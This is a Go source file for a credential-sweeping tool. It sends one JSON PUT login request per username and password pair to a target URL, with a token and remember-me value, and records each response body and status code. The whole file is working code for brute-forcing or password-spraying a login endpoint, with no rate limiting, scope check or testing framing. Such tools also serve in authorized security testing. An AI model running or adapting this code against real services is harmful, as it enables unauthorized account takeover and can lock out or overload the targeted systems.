package sweep

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"

	"github.com/rs/zerolog"
)

// TransportError reports the pair whose request failed below the HTTP layer.
// It ends the sweep; later pairs are never sent.
type TransportError struct {
	Pair Pair
	Err  error
}

func (e *TransportError) Error() string {
	return fmt.Sprintf("request for user %q: %v", e.Pair.Username, e.Err)
}

func (e *TransportError) Unwrap() error {
	return e.Err
}

// Sweeper sends one PUT per credential pair, strictly in order.
type Sweeper struct {
	TargetURL  string
	Token      string
	RememberMe string

	Client *http.Client
	Out    io.Writer
	Log    zerolog.Logger
}

// Run sends every pair of usernames × passwords and writes each response body
// to Out. It returns the number of requests completed.
func (s *Sweeper) Run(ctx context.Context, usernames, passwords []string) (int, error) {
	client := s.Client
	if client == nil {
		client = http.DefaultClient
	}

	s.Log.Info().
		Str("target", s.TargetURL).
		Int("usernames", len(usernames)).
		Int("passwords", len(passwords)).
		Msg("Sweep started")

	sent := 0
	for _, pair := range Pairs(usernames, passwords) {
		if err := s.send(ctx, client, pair); err != nil {
			return sent, err
		}
		sent++
	}

	s.Log.Info().Int("requests", sent).Msg("Sweep finished")
	return sent, nil
}

func (s *Sweeper) send(ctx context.Context, client *http.Client, pair Pair) error {
	body, err := json.Marshal(Payload{
		LoginUsername: pair.Username,
		LoginPassword: pair.Password,
		Token:         s.Token,
		RememberMe:    s.RememberMe,
	})
	if err != nil {
		return fmt.Errorf("marshaling payload: %w", err)
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPut, s.TargetURL, bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("building request: %w", err)
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := client.Do(req)
	if err != nil {
		return &TransportError{Pair: pair, Err: err}
	}
	defer resp.Body.Close()

	respBody, err := io.ReadAll(resp.Body)
	if err != nil {
		return &TransportError{Pair: pair, Err: fmt.Errorf("reading response: %w", err)}
	}

	s.Log.Debug().
		Str("username", pair.Username).
		Int("status", resp.StatusCode).
		Int("bytes", len(respBody)).
		Msg("Response received")

	return writeLine(s.Out, respBody)
}

// writeLine writes b and a newline unless b already ends with one.
func writeLine(w io.Writer, b []byte) error {
	if len(b) == 0 || b[len(b)-1] != '\n' {
		b = append(b, '\n')
	}
	if _, err := w.Write(b); err != nil {
		return fmt.Errorf("writing response body: %w", err)
	}
	return nil
}
